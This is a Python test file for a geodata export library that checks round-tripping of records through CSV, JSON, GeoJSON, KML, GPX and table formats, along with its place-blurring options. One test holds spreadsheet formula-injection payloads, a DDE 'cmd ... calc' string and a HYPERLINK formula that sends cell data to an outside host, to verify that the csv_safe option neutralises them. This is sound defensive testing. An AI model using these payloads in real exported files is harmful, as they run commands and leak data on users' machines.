"""Every format, read back by a reader that is not ours."""

import csv
import io
import json
import re
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st

from placelens.errors import InputError, QueryError
from placelens.export import FORMATS, dump, export, guess_format
from placelens.export.writers import replacing
from placelens.readers.lists import distinct, split_cell
from placelens.results import Hits
from placelens.types import Hit, Item, Place, ScoreTerm

CHURCH = Item(
    id="church",
    image="/photos/church & dome.jpg",
    text="A <baroque> church,\nwith a dome",
    place=Place(lat=50.087, lon=14.421),
    place_source="exif",
    time=datetime(2019, 6, 1, 12, 30),
    attributes={"city": "Praha", "title": "Church", "Score": 5, "rating": 4, "ok": True},
    width=640,
    height=480,
)
SYDNEY = Item(
    id="sydney",
    image="/photos/sydney.jpg",
    place=Place(lat=-33.86, lon=151.21),
    place_source="estimated",
    time=datetime(2020, 1, 1, 9, 0, tzinfo=UTC),
    attributes={"rating": 4.5, "nothing": float("nan")},
)
NOWHERE = Item(id="nowhere", text="no place at all")
ITEMS = (CHURCH, SYDNEY, NOWHERE)


def hit(item: Item, rank: int = 1) -> Hit:
    terms = (
        ScoreTerm(kind="place", label="near", weight=0.5, value=0.8, contribution=0.4),
        ScoreTerm(kind="text", label="dome", weight=0.5, value=0.2, contribution=0.1, cosine=0.3),
    )
    return Hit(
        rank=rank, id=item.id, score=0.5, terms=terms, distance_m=1234.5, matched="image", item=item
    )


HITS = tuple(hit(item, rank) for rank, item in enumerate(ITEMS, 1))


def written(things: object, name: str, **options: object) -> bytes:
    stream = io.BytesIO()
    dump(things, stream, format=name, **options)  # type: ignore[arg-type]
    return stream.getvalue()


def test_json_is_the_records() -> None:
    assert json.loads(written(HITS[:1], "json")) == [HITS[0].to_dict()]


@pytest.mark.parametrize("name", ["json", "jsonl", "geojson"])
def test_nan_attributes_become_null(name: str) -> None:
    text = written(ITEMS, name).decode()
    assert "NaN" not in text
    assert '"nothing": null' in text


def test_jsonl_has_one_object_a_line() -> None:
    lines = written(ITEMS, "jsonl").splitlines()
    assert [json.loads(line)["id"] for line in lines] == ["church", "sydney", "nowhere"]


def test_csv_columns_are_predictable() -> None:
    rows = list(csv.DictReader(io.StringIO(written(ITEMS, "csv").decode())))
    fixed = [
        "id",
        "title",
        "image",
        "text",
        "lat",
        "lon",
        "place_source",
        "time",
        "width",
        "height",
    ]
    # Attributes in order of name; "title" is taken, "Score" is not, since items have no score.
    assert list(rows[0]) == [*fixed, "Score", "city", "nothing", "ok", "rating", "attr_title"]
    assert rows[0]["text"] == CHURCH.text
    assert rows[1]["place_source"] == "estimated"
    assert (rows[2]["lat"], rows[2]["lon"]) == ("", "")


def test_csv_of_hits_keeps_terms_and_names_apart() -> None:
    (row, *_) = csv.DictReader(io.StringIO(written(HITS, "csv").decode()))
    assert row["score"] == "0.5"
    assert row["attr_Score"] == "5"  # a hit has a score already, letter case aside
    assert json.loads(row["terms"])[1]["label"] == "dome"


# GPX 1.1's xsd:decimal, and what its latitudeType and longitudeType allow.
XSD_DECIMAL = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)")
TINY = st.sampled_from([-1e-05, 1e-7, -0.0, 5e-324, 1e-300, 180.0, -180.0])


@given(TINY.filter(lambda v: abs(v) <= 90) | st.floats(-90, 90), TINY | st.floats(-180, 180))
def test_gpx_kml_and_csv_write_degrees_without_exponents(lat: float, lon: float) -> None:
    item = Item(id="a", place=Place(lat=lat, lon=lon))
    waypoint = ElementTree.fromstring(written([item], "gpx"))[0]
    for name, value, most in (("lat", lat, 90), ("lon", lon, 180)):
        text = waypoint.get(name) or ""
        assert XSD_DECIMAL.fullmatch(text)
        assert -most <= float(text) <= most
        assert float(text) == (-180 if (name, value) == ("lon", 180) else value)  # GPX: below 180
    mark = ElementTree.fromstring(written([item], "kml"))
    texts = (mark.findtext(".//{*}coordinates") or "").split(",")
    assert all(map(XSD_DECIMAL.fullmatch, texts))
    assert [float(text) for text in texts] == [lon, lat]
    (row,) = csv.DictReader(io.StringIO(written([item], "csv").decode()))
    assert all(map(XSD_DECIMAL.fullmatch, (row["lat"], row["lon"])))
    assert (float(row["lat"]), float(row["lon"])) == (lat, lon)
    for name in ("json", "geojson"):  # exponents are JSON
        assert json.loads(written([item], name))


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
     '=HYPERLINK("http://a.org?x="&A1,"open")'],
)  # fmt: skip
def test_a_cell_that_a_spreadsheet_would_run(text: str) -> None:
    item = Item(id=text, text=text, attributes={"title": text, text: "a"})
    (row,) = csv.DictReader(io.StringIO(written([item], "csv", csv_safe=True).decode(), newline=""))
    assert [row["id"], row["text"], row["attr_title"], row[f"'{text}"]] == [f"'{text}"] * 3 + ["a"]
    cells = [cell for cell in (*row, *row.values()) if cell]
    assert not [cell for cell in cells if cell[0] in "=+-@\t\r\n＝＋－＠"]
    # By default a text comes back as it was.
    (row,) = csv.DictReader(io.StringIO(written([item], "csv").decode(), newline=""))
    assert row["text"] == text


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), min_size=1), min_size=1))
def test_any_text_comes_back_from_csv(texts: list[str]) -> None:
    items = [Item(id=str(number), text=text) for number, text in enumerate(texts)]
    data = written(items, "csv")
    rows = csv.DictReader(io.StringIO(data.decode(), newline=""))
    assert [row["text"] for row in rows] == texts


def test_numbers_and_other_texts_are_left_alone_in_a_safe_csv() -> None:
    attributes = {"a": -5, "b": -0.5, "c": "-5", "d": "+49,5", "e": "a = b", "f": "'quoted"}
    item = Item(id="x", place=Place(lat=-33.25, lon=-70.5), attributes=attributes)
    safe = written([item], "csv", csv_safe=True)
    assert safe == written([item], "csv")
    assert b"-33.25,-70.5" in safe


def test_safe_csv_is_refused_for_other_formats() -> None:
    with pytest.raises(InputError, match=r"csv_safe .* is for csv, and json runs nothing"):
        written(ITEMS, "json", csv_safe=True)


def test_geojson_is_lon_lat_with_null_for_no_place() -> None:
    collection = json.loads(written(ITEMS, "geojson"))
    assert collection["type"] == "FeatureCollection"
    geometries = [feature["geometry"] for feature in collection["features"]]
    assert geometries[0] == {"type": "Point", "coordinates": [14.421, 50.087]}
    assert geometries[2] is None
    assert "lat" not in collection["features"][0]["properties"]
    assert collection["features"][1]["properties"]["place_source"] == "estimated"


def test_kml_places_lon_first_and_escapes() -> None:
    root = ElementTree.fromstring(written(HITS, "kml"))
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    marks = root.findall(".//k:Placemark", ns)
    assert [mark.findtext("k:name", None, ns) for mark in marks] == ["Church", "sydney.jpg"]
    assert marks[0].findtext(".//k:coordinates", None, ns) == "14.421,50.087"
    assert "A <baroque> church" in (marks[0].findtext("k:description", "", ns))
    assert "position estimated, not measured" in marks[1].findtext("k:description", "", ns)


def test_gpx_takes_utc_times_only() -> None:
    root = ElementTree.fromstring(written(ITEMS, "gpx"))
    ns = {"g": "http://www.topografix.com/GPX/1/1"}
    first, second = root.findall("g:wpt", ns)
    assert (first.get("lat"), first.get("lon")) == ("50.087", "14.421")
    assert first.find("g:time", ns) is None  # a wall-clock time is not UTC
    assert "2019-06-01T12:30:00 (local time)" in first.findtext("g:desc", "", ns)
    assert second.findtext("g:time", None, ns) == "2020-01-01T09:00:00Z"


@pytest.mark.parametrize("name", ["kml", "gpx"])
def test_xml_survives_control_characters(name: str) -> None:
    item = Item(id="x", text="bell \x07 and \udcff", place=Place(lat=1.0, lon=2.0))
    texts = [element.text or "" for element in ElementTree.fromstring(written([item], name)).iter()]
    assert "bell \ufffd and \ufffd" in texts


def test_paths_end_with_newline_or_nul() -> None:
    assert written(ITEMS, "paths") == b"/photos/church & dome.jpg\n/photos/sydney.jpg\n"
    assert written(ITEMS, "paths0") == b"/photos/church & dome.jpg\0/photos/sydney.jpg\0"


def test_paths_that_are_not_utf8_pass_through() -> None:
    odd = Item(id="odd", image="/photos/\udce9t\udce9.jpg")  # b"\xe9t\xe9.jpg" as the system says
    assert written([odd], "paths") == b"/photos/\xe9t\xe9.jpg\n"
    assert json.loads(written([odd], "json"))[0]["image"] == odd.image


@pytest.mark.parametrize(("name", "left_out"), [("kml", 1), ("gpx", 1), ("paths", 1), ("csv", 0)])
def test_what_a_format_cannot_hold_is_counted(name: str, left_out: int) -> None:
    report = dump(ITEMS, io.BytesIO(), format=name)
    assert (report.n_written, report.n_left_out) == (3 - left_out, left_out)
    assert ("left out" in str(report)) == bool(left_out)


@pytest.mark.parametrize("name", sorted(FORMATS))
def test_nothing_to_write_is_still_a_valid_file(name: str, tmp_path: Path) -> None:
    if FORMATS[name].binary:
        pytest.importorskip("pyogrio")
    report = export([], tmp_path / "none", format=name)
    assert report.n_written == 0
    assert (tmp_path / "none").exists()


@pytest.mark.parametrize("name", ["geojson", "kml", "gpx", "gpkg", "geoparquet"])
def test_geopandas_reads_it_back(name: str, tmp_path: Path) -> None:
    geopandas = pytest.importorskip("geopandas")
    path = tmp_path / f"hits{FORMATS[name].suffix}"
    export(HITS, path)
    read = geopandas.read_parquet if name == "geoparquet" else geopandas.read_file
    frame = read(path, **({"layer": "waypoints"} if name == "gpx" else {}))
    located = frame[~frame.geometry.isna() & ~frame.geometry.is_empty]
    assert len(frame) == (2 if FORMATS[name].needs == "place" else 3)
    assert [(point.x, point.y) for point in located.geometry] == [
        (14.421, 50.087),
        (151.21, -33.86),
    ]
    assert frame.crs.to_epsg() == 4326


@pytest.mark.parametrize("name", ["gpkg", "geoparquet"])
def test_tables_keep_types(name: str, tmp_path: Path) -> None:
    geopandas = pytest.importorskip("geopandas")
    path = tmp_path / f"items{FORMATS[name].suffix}"
    export(ITEMS, path)
    frame = (geopandas.read_parquet if name == "geoparquet" else geopandas.read_file)(path)
    assert frame["rating"].tolist()[:2] == [4.0, 4.5]  # whole numbers and others: all are numbers
    assert frame["Score"][0] == 5
    assert bool(frame["ok"][0]) is True
    assert frame["time"][0] == "2019-06-01T12:30:00"


def test_a_plane_has_no_crs_and_no_kml(tmp_path: Path) -> None:
    geopandas = pytest.importorskip("geopandas")
    items = [Item(id="a", place=Place(x=10.0, y=-3.0))]
    export(items, tmp_path / "plane.parquet")
    frame = geopandas.read_parquet(tmp_path / "plane.parquet")
    assert frame.crs is None
    assert (frame.geometry[0].x, frame.geometry[0].y) == (10.0, -3.0)
    with pytest.raises(InputError, match="lies on a plane"):
        export(items, tmp_path / "plane.kml")


def test_a_failure_leaves_no_file_behind(tmp_path: Path) -> None:
    with pytest.raises(InputError):
        export([Item(id="a", place=Place(x=1.0, y=2.0))], tmp_path / "a.gpx")
    assert list(tmp_path.iterdir()) == []


def test_an_existing_file_is_kept_unless_forced(tmp_path: Path) -> None:
    path = tmp_path / "items.csv"
    path.write_text("mine")
    with pytest.raises(InputError, match="exists already"):
        export(ITEMS, path)
    assert path.read_text() == "mine"
    export(ITEMS, path, force=True)
    assert path.read_text().startswith("id,title")


def test_unknown_formats_list_the_choices(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="no format 'shp'; choose one of json, jsonl, csv"):
        export(ITEMS, tmp_path / "a.shp", format="shp")
    with pytest.raises(InputError, match="cannot tell the format"):
        guess_format(Path("items.docx"))
    with pytest.raises(InputError, match="there is no folder"):
        export(ITEMS, tmp_path / "no" / "items.csv")


def test_dropped_places_leave_nothing_to_find_them_by() -> None:
    (record, *_) = json.loads(written(HITS, "json", drop_places=True))
    hidden = ("lat", "lon", "place_source", "score", "distance_m")
    assert {key: record[key] for key in hidden} == dict.fromkeys(hidden)
    assert record["terms"] == []
    assert dump(ITEMS, io.BytesIO(), format="gpx", drop_places=True).n_written == 0


def test_blurred_places_say_so_and_hide_distances() -> None:
    record, _, nowhere = json.loads(written(HITS, "json", blur="1km"))
    # The cell's centre, at most 0.71 km away, as the doctest of blur_lonlat derives it.
    assert (record["lat"], record["lon"]) == (50.087648, 14.423549)
    assert (record["place_blur_m"], record["distance_m"], record["terms"]) == (1000.0, None, [])
    assert (nowhere["lat"], nowhere["place_blur_m"]) == (None, None)
    assert b"position blurred to 1.0 km" in written(HITS, "kml", blur="1km")


@pytest.mark.parametrize("privacy", [{"blur": "10km"}, {"drop_places": True}])
def test_the_footprint_of_a_raster_is_hidden_with_its_place(privacy: dict[str, object]) -> None:
    bounds = {"footprint_west": 14.0, "footprint_east": 16.0, "footprint": "kept"}
    item = Item(id="a", place=Place(lat=50.0, lon=15.0), attributes=bounds)
    (record,) = json.loads(written([item], "json", **privacy))
    assert record["attributes"] == {"footprint": "kept"}
    assert json.loads(written([item], "json"))[0]["attributes"] == bounds


def test_a_plane_is_blurred_in_metres() -> None:
    items = [Item(id="a", place=Place(x=1499.0, y=-1.0))]
    (record,) = json.loads(written(items, "json", blur=1000))
    assert (record["x"], record["y"]) == (1500.0, -500.0)


def test_blur_and_drop_exclude_each_other() -> None:
    with pytest.raises(InputError, match="exclude each other"):
        dump(ITEMS, io.BytesIO(), format="json", blur="1km", drop_places=True)
    with pytest.raises(InputError, match="larger than 0"):
        dump(ITEMS, io.BytesIO(), format="json", blur=0)
    with pytest.raises(QueryError, match="unknown unit"):
        dump(ITEMS, io.BytesIO(), format="json", blur="1 parsec")


def test_a_folder_that_takes_no_files_is_named_with_the_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(**_: object) -> None:
        raise PermissionError(13, "Permission denied", str(tmp_path / ".a.csv.x1.part"))

    monkeypatch.setattr("placelens.export.writers.tempfile.mkstemp", refuse)
    with (
        pytest.raises(InputError, match=r"cannot write .*/a\.csv: Permission denied$"),
        replacing(tmp_path / "a.csv", force=False),
    ):
        pass


@pytest.mark.parametrize(("things", "of"), [(ITEMS, Item), (HITS, Hit)])
def test_a_table_of_nothing_has_the_columns_of_one_without_attributes(things, of) -> None:
    """The fixed columns of a table that has rows: those before its first attribute."""
    (header,) = csv.reader(io.StringIO(written([], "csv", of=of).decode()))
    (full, *_) = csv.reader(io.StringIO(written(things, "csv").decode()))
    first_attribute = next(i for i, name in enumerate(full) if name in ("Score", "attr_Score"))
    assert header == [name for name in full[:first_attribute] if name != "concepts"]
    assert written([], "csv", of=of, csv_safe=True) == written([], "csv", of=of)


def test_what_leaves_out_positions_has_its_columns_without_rows_too() -> None:
    for how in ({"blur": "1km"}, {"drop_places": True}):
        (header,) = csv.reader(io.StringIO(written([], "csv", **how).decode()))
        (full, *_) = csv.reader(io.StringIO(written([NOWHERE], "csv", **how).decode()))
        assert header == [name for name in full if name not in NOWHERE.attributes]


def test_frames_of_no_hits_have_columns() -> None:
    hits = Hits([])
    columns = hits.to_arrow().column_names
    assert {"rank", "id", "score", "lat", "lon"} < set(columns)
    assert hits.to_arrow().schema.field("score").type == "double"
    pytest.importorskip("pandas")
    assert list(hits.to_pandas().columns) == columns
    assert len(hits.to_pandas()) == 0


@pytest.mark.parametrize("name", ["gpkg", "geoparquet"])
def test_a_geographic_table_of_nothing_reads_back(tmp_path: Path, name: str) -> None:
    geopandas = pytest.importorskip("geopandas")
    path = tmp_path / f"none{FORMATS[name].suffix}"
    Hits([]).save(path, format=name)
    read = geopandas.read_parquet if name == "geoparquet" else geopandas.read_file
    frame = read(path)
    assert len(frame) == 0
    assert {"id", "score"} < set(frame.columns)


@given(st.lists(st.text(st.sampled_from('a ;,"[]é'), min_size=1), max_size=4))
def test_keywords_come_back_from_a_csv(keywords: list[str]) -> None:
    keywords = distinct(keywords)  # as every reader makes them
    item = Item(id="a", attributes={"keywords": keywords})
    (row,) = csv.DictReader(io.StringIO(written([item], "csv").decode()))
    assert (split_cell("keywords", row["keywords"]) or []) == keywords
